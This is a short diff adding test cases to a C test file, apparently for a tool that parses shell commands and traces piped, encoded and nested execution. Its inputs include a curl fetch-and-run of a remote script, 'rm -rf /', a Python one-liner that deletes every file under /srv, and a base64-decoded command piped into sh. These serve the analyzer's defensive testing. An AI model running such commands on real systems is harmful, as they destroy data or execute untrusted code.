@@ -869,6 +869,13 @@ static void cases(void)
 	  "curl|-s|http://x/i.sh >i.sh ;; sh|i.sh ;; <computed-exec>|sh");
 	t("printf '%s\\n' 'rm -rf /' | bash -n",
 	  "printf|%s\\n|rm -rf / ;; bash|-n in=printf");
+	t("python3 -c \"import pathlib; [p.unlink() for p in pathlib.Path('/srv').glob('*')]\"",
+	  "python3|-c|import pathlib; [p.unlink() for p in pathlib.Path('/srv').glob('*')] "
+	  "code=[import pathlib; [p.unlink() for p in pathlib.Path('/srv').glob('*')]] ;; "
+	  "rm|-f|--|/srv/* via=python3");
+	t("echo 'ls /srv' | base64 | base64 -d | sh",
+	  "echo|ls /srv ;; base64 in=echo ;; base64|-d in=echo,base64 ;; "
+	  "sh in=echo,base64 ;; ls|/srv via=sh in=echo,base64");
 	t("source <(echo 'ls /srv')",
 	  "echo|ls /srv ;; source|<(\xe2\x80\xa6) in=echo ;; ls|/srv via=source in=echo");
 	t("cat > x.py <<'EOF'\nimport os\nos.system('id')\nEOF\npython3 x.py",
